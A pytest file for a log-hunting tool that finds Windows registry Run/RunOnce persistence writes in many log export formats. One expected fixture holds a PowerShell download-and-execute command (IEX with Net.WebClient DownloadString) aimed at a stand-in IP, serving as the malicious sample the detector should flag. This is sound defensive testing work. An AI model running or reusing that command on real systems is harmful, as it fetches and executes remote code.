"""The same three writes, whatever file they come in."""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
from pathlib import Path
from typing import Any

import pytest

from tests.offline.conftest import Hunter, write_event
from tests.offline.evtx_file import evtx_bytes

SHAPES = Path(__file__).resolve().parent.parent / "data" / "shapes"
SAMPLE = SHAPES.parents[2] / "samples" / "sample.xml"
KIND_OF_SHAPE = {
    "array.json": "json",
    "elasticsearch.json": "json",
    "event_viewer.xml": "xml",
    "evtx_dump.json": "json",
    "evtx_dump.jsonl": "json",
    "mordor.jsonl": "json",
    "nxlog.jsonl": "json",
    "splunk_export.csv": "csv",
    "splunk_export.json": "json",
    "splunk_fields.csv": "csv",
    "wineventlog.txt": "text",
    "winlogbeat.jsonl": "json",
}
# time, host, user, location, value name, writer, decoded
THREE_WRITES = [
    (
        "2026-03-02 07:58:11.203",
        "WS-014.corp.example",
        "CORP\\a.lindt",
        "Run",
        "OneDrive",
        "OneDriveSetup.exe",
        "",
    ),
    (
        "2026-03-02 08:15:42.117",
        "WS-014.corp.example",
        "CORP\\a.lindt",
        "Run",
        "Updater",
        "powershell.exe",
        "$u = 'http://203.0.113.9/feed'; IEX (New-Object Net.WebClient).DownloadString($u)",
    ),
    ("2026-03-02 08:33:27.550", "SRV-FILE02.corp.example", "CORP\\svc-files", "RunOnce", "Cleanup", "reg.exe", ""),
]


def told(finding: dict[str, Any]) -> tuple[str, ...]:
    names = ("time", "host", "rk_user", "rk_location", "rk_value_name", "rk_writer", "rk_decoded")
    return tuple(finding[name] for name in names)


def by_time(writes: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The writes without the file that they come from, and the process, which not every shape names."""
    left_out = ("path", "place", "rk_process_guid", "rk_process_id")
    kept = [{name: value for name, value in row.items() if name not in left_out} for row in writes]
    return sorted(kept, key=lambda row: row["time"])


def test_every_shape_is_tested():
    assert sorted(path.name for path in SHAPES.iterdir()) == sorted(KIND_OF_SHAPE)


@pytest.mark.parametrize("shape", sorted(KIND_OF_SHAPE))
def test_three_writes_of_a_shape(hunt_for_real: Hunter, shape: str):
    told_of = hunt_for_real(SHAPES / shape, "--format", "jsonl", "--fail-on", "never")
    ran = hunt_for_real(SHAPES / shape, "--format", "json", "--fail-on", "never")

    assert (ran.status, ran.err) == (told_of.status, told_of.err) == (0, "")
    assert [told(finding) for finding in by_time(told_of.writes)] == THREE_WRITES
    assert ran.report["unreadable"] == []
    assert ran.report["files"] == [
        {
            "path": str(SHAPES / shape),
            "kind": KIND_OF_SHAPE[shape],
            # One event in the text is of another log.
            "events": 4 if shape == "wineventlog.txt" else 3,
            "problem": "",
            "skipped": False,
            "notes": [],
        }
    ]


def test_every_shape_gives_the_verdicts_of_the_sample(hunt_for_real: Hunter):
    times = [time for time, *_ in THREE_WRITES]
    sample = hunt_for_real(SAMPLE, "--format", "jsonl")
    expected = [finding for finding in by_time(sample.writes) if finding["time"] in times]

    for shape in KIND_OF_SHAPE:
        found = hunt_for_real(SHAPES / shape, "--format", "jsonl")
        assert by_time(found.writes) == expected, shape


def test_sample_holds_ordinary_software_and_intrusions(hunt_for_real: Hunter):
    ran = hunt_for_real(SAMPLE, "--format", "json")

    assert (ran.status, ran.err) == (1, "")
    assert ran.report["totals"]["events"] == 20
    assert [(row["location"], row["value_name"]) for row in by_time(ran.report["findings"])] == [
        ("Run", "OneDrive"),
        ("Run", "com.squirrel.Teams.Teams"),
        ("Run", "SecurityHealth"),
        ("Run", "Nordwind Backup Agent"),
        ("Run", "Glasscache"),
        ("Run", "Updater"),
        ("Run", "Feed"),
        ("Run", "<hidden>"),
        ("RunOnce", "Cleanup"),
        ("UserShellFolders", "Startup"),
        ("StartupFolder", "sync.bat"),
        ("Run", "Host Service"),
    ]


def test_recorded_events_in_json_and_in_xml_are_told_alike(hunt_for_real: Hunter, corpus: Path, tmp_path: Path):
    with gzip.open(corpus / "dev.jsonl.gz", "rt", encoding="utf-8") as lines:
        events = [json.loads(line)["xml"] for line in lines]
    (tmp_path / "dev.xml").write_text("\n".join(events), encoding="utf-8")
    flat, xml = (hunt_for_real(path, "--format", "json").report for path in (corpus / "dev.jsonl.gz", "dev.xml"))

    assert (flat["totals"]["events"], flat["unreadable"]) == (33641, [])
    assert flat["totals"] == xml["totals"]
    assert flat["findings"] == xml["findings"]


@pytest.mark.parametrize(
    ("name", "events"),
    [
        ("T1547.001__t1547001-runonce.txt", 45),
        ("T1574.007__python_pythonpath_modification.log", 2),
        ("gootloader__i_am_goot.log", 39),
        ("remcos__agent_license.log", 8),
    ],
)
def test_files_as_splunk_held_them(hunt_for_real: Hunter, corpus: Path, name: str, events: int):
    ran = hunt_for_real(corpus / "raw_splunk" / name, "--format", "json", "--fail-on", "never")

    assert (ran.status, ran.report["totals"]["events"], ran.report["unreadable"]) == (0, events, [])


@pytest.mark.parametrize(
    "encoding",
    ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"],
    ids=["utf-8", "utf-8 with mark", "utf-16 with mark", "utf-16-le", "utf-16-be"],
)
def test_encodings(hunt: Hunter, tmp_path: Path, encoding: str):
    # As wevtutil writes: attributes in double quotes, a value of two lines, carriage returns.
    event = write_event("Müller", "cmd /c a.cmd\r\n& b.cmd").replace("'", '"')
    (tmp_path / "log").write_bytes((event + "\r\n" + event + "\r\n").encode(encoding))
    ran = hunt("log", "--format", "jsonl")

    assert [(row["rk_value_name"], row["place"]) for row in ran.writes] == [
        ("Müller", "line 1"),
        ("Müller", "line 3"),
    ]
    assert ran.writes[0]["rk_command"].split() == ["cmd", "/c", "a.cmd", "&", "b.cmd"]


def test_bytes_that_are_not_utf8_are_taken_as_latin1(hunt: Hunter, tmp_path: Path):
    lines = (
        write_event("Привет").encode("utf-8"),
        write_event("Müller", time="2026-03-02 09:00:00.000").encode("latin-1"),
    )
    (tmp_path / "log").write_bytes(b"\n".join(lines))
    ran = hunt("log", "--format", "jsonl")

    assert [row["rk_value_name"] for row in ran.writes] == ["Привет", "Müller"]


@pytest.mark.parametrize("packer", [gzip, bz2, lzma])
def test_what_is_packed_is_opened_whatever_the_name(hunt: Hunter, tmp_path: Path, packer: Any):
    (tmp_path / "log.txt").write_bytes(packer.compress(write_event("Zipped").encode()))
    ran = hunt("log.txt", "--format", "jsonl")

    assert [row["rk_value_name"] for row in ran.writes] == ["Zipped"]


@pytest.mark.parametrize("way", ["file", "gzip", "standard input"])
def test_evtx(hunt: Hunter, tmp_path: Path, way: str):
    pytest.importorskip("evtx")
    content = evtx_bytes([write_event("First"), write_event(code="1"), write_event("Second", key="RunOnce")])
    (tmp_path / "log").write_bytes(gzip.compress(content) if way == "gzip" else content)
    path, stdin = ("-", content) if way == "standard input" else ("log", b"")
    told_of, ran = (hunt("--format", form, path, stdin=stdin) for form in ("jsonl", "json"))

    assert [(row["rk_value_name"], row["place"]) for row in told_of.writes] == [
        ("First", "record 1"),
        ("Second", "record 3"),
    ]
    assert [(file["kind"], file["events"]) for file in ran.report["files"]] == [("evtx", 3)]


def test_multivalue_columns_of_a_csv_export(hunt: Hunter, tmp_path: Path):
    target = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Agent"
    (tmp_path / "log").write_text(
        f'EventCode,TargetObject,Details,__mv_Details\n13,{target},"one\ntwo","$one$;$t$$wo$"\n13,{target},three,\n',
        encoding="utf-8",
    )
    ran = hunt("log", "--format", "jsonl")

    assert sorted(row["rk_command"].split() for row in ran.writes) == [["one", "t$wo"], ["three"]]


def test_multivalue_fields_of_a_json_export(hunt: Hunter, tmp_path: Path):
    target = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Agent"
    row = {"EventCode": "13", "TargetObject": target, "Details": ["one", "two"]}
    (tmp_path / "log").write_text(json.dumps({"preview": False, "results": [row, row]}), encoding="utf-8")
    ran = hunt("log", "--format", "jsonl")

    assert [found["rk_command"].split() for found in ran.writes] == [["one", "two"], ["one", "two"]]


def test_nul_in_a_csv_export(hunt: Hunter, tmp_path: Path):
    target = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\A\0gent"
    (tmp_path / "log").write_text(f"EventCode,TargetObject\n13,{target}\n", encoding="utf-8")

    assert [row["rk_value_name"] for row in hunt("log", "--format", "jsonl").writes] == ["A\ufffdgent"]


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_separators_of_a_csv_export(hunt: Hunter, tmp_path: Path, separator: str):
    columns = {
        "EventCode": "13",
        "TargetObject": "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Agent",
        "Details": "a.exe",
    }
    (tmp_path / "log").write_text(f"{separator.join(columns)}\n{separator.join(columns.values())}\n", encoding="utf-8")

    assert [row["rk_command"] for row in hunt("log", "--format", "jsonl").writes] == ["a.exe"]


def test_field_of_a_csv_export_that_is_longer_than_python_likes(hunt: Hunter, tmp_path: Path):
    event = write_event(image=f"C:\\{'x' * 200_000}\\setup.exe")
    (tmp_path / "log").write_text(f'"_raw"\n"{event}"\n', encoding="utf-8")

    assert [row["rk_writer"] for row in hunt("log", "--format", "jsonl").writes] == ["setup.exe"]
